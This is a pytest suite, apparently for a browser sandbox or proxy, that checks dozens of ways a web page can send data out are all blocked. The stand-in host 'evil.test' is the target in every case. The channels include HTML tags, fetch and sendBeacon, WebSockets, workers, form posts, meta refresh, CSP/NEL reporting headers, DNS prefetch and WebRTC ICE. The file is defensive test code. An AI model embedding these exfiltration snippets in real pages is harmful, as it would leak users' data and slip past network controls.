"""Every channel out of a page, each to a forbidden host of its own: none arrives, each is refused by name."""
# ruff: noqa: E501 - a channel is easier to read in one line

from __future__ import annotations

import asyncio
import socket
from typing import Any

import pytest

EVIL = "evil.test"
POLICY = {"origins": {"allow": ["https://example.com"]}, "network": {"subresources": "listed"}}


def at(channel: str, scheme: str = "https") -> str:
    """Where a channel's request goes."""
    return f"{scheme}://{channel}.{EVIL}/x"


MARKUP = {
    "iframe": f'<iframe src="{at("iframe")}"></iframe>',
    "img": f'<img src="{at("img")}">',
    "srcset": f'<img srcset="{at("srcset")} 2x, {at("srcset")} 1x">',
    "script": f'<script src="{at("script")}"></script>',
    "stylesheet": f'<link rel=stylesheet href="{at("stylesheet")}">',
    "import": f'<style>@import url("{at("import")}");</style>',
    "font": f'<style>@font-face{{font-family:f;src:url("{at("font")}")}} p{{font-family:f}}</style><p>x</p>',
    "background": f'<style>b{{background:url("{at("background")}")}}</style><b>x</b>',
    "video": f'<video preload=auto src="{at("video")}"></video>',
    "poster": f'<video poster="{at("poster")}"></video>',
    "audio": f'<audio preload=auto src="{at("audio")}"></audio>',
    "object": f'<object data="{at("object")}"></object>',
    "embed": f'<embed src="{at("embed")}">',
    "svg": f'<svg><image href="{at("svg")}"/></svg>',
    "preload": f'<link rel=preload as=image href="{at("preload")}">',
    "modulepreload": f'<link rel=modulepreload href="{at("modulepreload")}">',
    "preconnect": f'<link rel=preconnect href="{at("preconnect")}">',
    "manifest-less-frame": f'<iframe srcdoc="<img src={at("manifest-less-frame")}>"></iframe>',
    "image-redirect": '<img src="/to/image-redirect">',
    "track": f'<video crossorigin><track default kind=subtitles src="{at("track")}"></video>',
    "favicon": f'<link rel=icon href="{at("favicon")}">',
    "prefetch": f'<link rel=prefetch href="{at("prefetch")}">',
}
SCRIPTS = {
    "fetch": f'fetch("{at("fetch")}",{{mode:"no-cors"}})',
    "fetch-redirect": 'fetch("/to/fetch-redirect",{mode:"no-cors"})',
    "keepalive": f'fetch("{at("keepalive")}",{{mode:"no-cors",keepalive:true}})',
    "xhr": f'var x=new XMLHttpRequest();x.open("POST","{at("xhr")}");x.send("d")',
    "beacon": f'navigator.sendBeacon("{at("beacon")}","d")',
    "eventsource": f'new EventSource("{at("eventsource")}")',
    "websocket": f'new WebSocket("{at("websocket", "wss")}")',
    "plain-websocket": f'try{{new WebSocket("{at("plain-websocket", "ws")}")}}catch(e){{}}',
    "worker": f'new Worker(URL.createObjectURL(new Blob([\'fetch("{at("worker")}",{{mode:"no-cors"}})\'])))',
    "worker-socket": f"new Worker(URL.createObjectURL(new Blob(['new WebSocket(\"{at('worker-socket', 'wss')}\")'])))",
    "shared-worker": 'new SharedWorker("/shared.js")',
    "service-worker": 'navigator.serviceWorker.register("/service.js")',
    "worklet": f'CSS.paintWorklet&&CSS.paintWorklet.addModule("{at("worklet")}")',
    "image-object": f'new Image().src="{at("image-object")}"',
    "import-script": f'import("{at("import-script")}").catch(()=>0)',
    "manifest": f'l=document.createElement("link");l.rel="manifest";l.href="{at("manifest")}";document.head.append(l)',
    "audio-worklet": f'new AudioContext().audioWorklet.addModule("{at("audio-worklet")}").catch(()=>0)',
    "history": f'try{{history.pushState(0,"","{at("history")}")}}catch(e){{}}',
    "fetch-later": f'window.fetchLater&&fetchLater("{at("fetch-later")}",{{activateAfter:0}})',
}
NOT_ALWAYS = {
    "favicon",
    "manifest",
    "history",
    "track",
    "audio-worklet",
    "preload",
    "modulepreload",
    "plain-websocket",
    "worklet",
    "fetch-later",
    "preconnect",
}
"""Channels that some versions of Chromium do not use here: they must not arrive, but need not be refused."""

SITE = {
    "/shared.js": (200, {"content-type": "text/javascript"},
                   f'fetch("{at("shared-worker")}",{{mode:"no-cors"}});new WebSocket("{at("shared-socket", "wss")}")'),
    "/service.js": (200, {"content-type": "text/javascript"},
                    f'fetch("{at("service-worker")}",{{mode:"no-cors"}}).catch(()=>0);new WebSocket("{at("service-socket", "wss")}")'),
}  # fmt: skip


def redirect(url: str) -> tuple[int, dict[str, str], str]:
    return 302, {"location": url}, ""


async def refused_hosts(guard: Any, wanted: set[str], seconds: float = 8.0) -> set[str]:
    """Channels whose request was refused, waited for until all of `wanted` are there."""
    loop = asyncio.get_running_loop()
    until = loop.time() + seconds
    while True:
        hosts = {one.url.partition("://")[2].split("/")[0].split(":")[0] for one in guard.blocked.values()}
        found = {host.removesuffix("." + EVIL) for host in hosts if host.endswith(EVIL)}
        if wanted <= found or loop.time() > until:
            return found
        await asyncio.sleep(0.05)


async def test_nothing_that_markup_asks_for_arrives(behind: Any, internet: Any) -> None:
    body = "".join(MARKUP.values())
    site = internet.serve("example.com", {"/": body, "/to/image-redirect": redirect(at("image-redirect"))})
    session, guard = await behind(POLICY)
    await session.current.navigate(site)
    found = await refused_hosts(guard, set(MARKUP) - NOT_ALWAYS)
    assert set(MARKUP) - NOT_ALWAYS - found == set()
    assert internet.forbidden.arrivals == 0


async def test_nothing_that_scripts_ask_for_arrives(behind: Any, internet: Any) -> None:
    pages = {**SITE, "/": "<p>here", "/to/fetch-redirect": redirect(at("fetch-redirect"))}
    site = internet.serve("example.com", pages)
    session, guard = await behind(POLICY)
    await session.current.navigate(site)
    for code in SCRIPTS.values():
        await session.current.page.evaluate(f"() => {{ {code} }}")
    wanted = {*SCRIPTS, "shared-socket", "service-socket"} - NOT_ALWAYS
    found = await refused_hosts(guard, wanted)
    assert wanted - found == set()
    assert internet.forbidden.arrivals == 0


DOCUMENTS = {
    "location": f'location.href="{at("location")}"',
    "open": f'window.open("{at("open")}")',
    "blank": f"document.body.innerHTML='<a id=a target=_blank rel=noopener href=\"{at('blank')}\">x';a.click()",
    "form-get": f"document.body.innerHTML='<form id=f action=\"{at('form-get')}\"><input name=q value=1>';f.submit()",
    "form-post": f"document.body.innerHTML='<form id=f method=post action=\"{at('form-post')}\"><input name=q>';f.submit()",
    "meta": f"document.head.innerHTML+='<meta http-equiv=refresh content=\"0;url={at('meta')}\">'",
    "redirect": 'location.href="/to/redirect"',
    "redirect-307": "document.body.innerHTML='<form id=f method=post action=\"/to/redirect-307\">';f.submit()",
    "base": f"document.head.innerHTML+='<base href=\"https://base.{EVIL}/\">';document.body.innerHTML='<a id=a href=x>x';a.click()",
    "download": f"document.body.innerHTML='<a id=a download href=\"{at('download')}\">x';a.click()",
    "ping": f'document.body.innerHTML=\'<a id=a ping="{at("ping")}" href="#x">x\';a.click()',
}


@pytest.mark.parametrize("channel", DOCUMENTS)
async def test_no_document_arrives(behind: Any, internet: Any, channel: str) -> None:
    pages = {"/": "<p>here", "/to/redirect": redirect(at("redirect")),
             "/to/redirect-307": (307, {"location": at("redirect-307")}, "")}  # fmt: skip
    site = internet.serve("example.com", pages)
    session, guard = await behind(POLICY)
    await session.current.navigate(site)
    await session.current.page.evaluate(f"() => {{ {DOCUMENTS[channel]} }}")
    wanted = set() if channel == "ping" else {channel}  # --no-pings: most often it is not even asked for
    assert wanted <= await refused_hosts(guard, wanted)
    assert internet.forbidden.arrivals == 0
    expected = "redirect.origin_not_allowed" if channel.startswith("redirect") else "origin.not_allowed"
    assert {one.reason for one in guard.blocked.values()} <= {expected}
    assert session.tabs[next(iter(session.tabs))].url.startswith(site)


async def test_reports_of_the_browser_do_not_arrive(behind: Any, internet: Any) -> None:
    headers = {
        "content-security-policy": f"img-src 'none'; report-uri {at('csp')}; report-to r",
        "reporting-endpoints": f'r="{at("reporting")}"',
        "report-to": f'{{"group":"r","max_age":100,"endpoints":[{{"url":"{at("nel")}"}}]}}',
        "nel": '{"report_to":"r","max_age":100,"success_fraction":1.0}',
    }
    site = internet.serve(
        "example.com", {"/": (200, {**headers, "content-type": "text/html"}, "<img src=/y>")}
    )
    session, guard = await behind(POLICY)
    await session.current.navigate(site)
    assert "csp" in await refused_hosts(guard, {"csp"}) or not internet.forbidden.arrivals
    assert internet.forbidden.arrivals == 0


async def test_no_packet_goes_past_the_proxy_and_no_name_is_looked_up(behind: Any, internet: Any) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        port = udp.getsockname()[1]
        prefetch = f'<link rel=dns-prefetch href="//dns.{EVIL}/"><p>here'
        site = internet.serve("example.com", {"/": prefetch})
        session, _ = await behind(POLICY)
        await session.current.navigate(site)
        gathered = await session.current.page.evaluate(
            """async port => {
                const pc = new RTCPeerConnection({iceServers: [{urls: [`stun:127.0.0.1:${port}`,
                    `turn:127.0.0.1:${port}`, `stun:stun.evil.test`], username: "u", credential: "c"}]});
                pc.createDataChannel("x");
                const candidates = [];
                pc.onicecandidate = e => e.candidate && candidates.push(e.candidate.candidate);
                await pc.setLocalDescription(await pc.createOffer());
                try { const wt = new WebTransport(`https://127.0.0.1:${port}/`); await wt.ready; } catch (e) {}
                await new Promise(r => setTimeout(r, 1500));
                return candidates;
            }""",
            port,
        )
        assert [one for one in gathered if "srflx" in one or "relay" in one] == []
        with pytest.raises(BlockingIOError):
            udp.recv(2000)
    assert [host for host in internet.asked if host.endswith(EVIL)] == []
    assert internet.forbidden.arrivals == 0


async def test_what_the_browser_asks_for_by_itself_goes_nowhere(
    guarded: Any, behind: Any, internet: Any
) -> None:
    site = internet.serve("example.com", {"/": "<p>here"})
    session, guard = await behind({"origins": {"allow": ["https://*"]}})
    await session.current.navigate(site)
    assert [one.url for one in guard.blocked.values()] == []
    assert set(internet.asked) == {"example.com"}
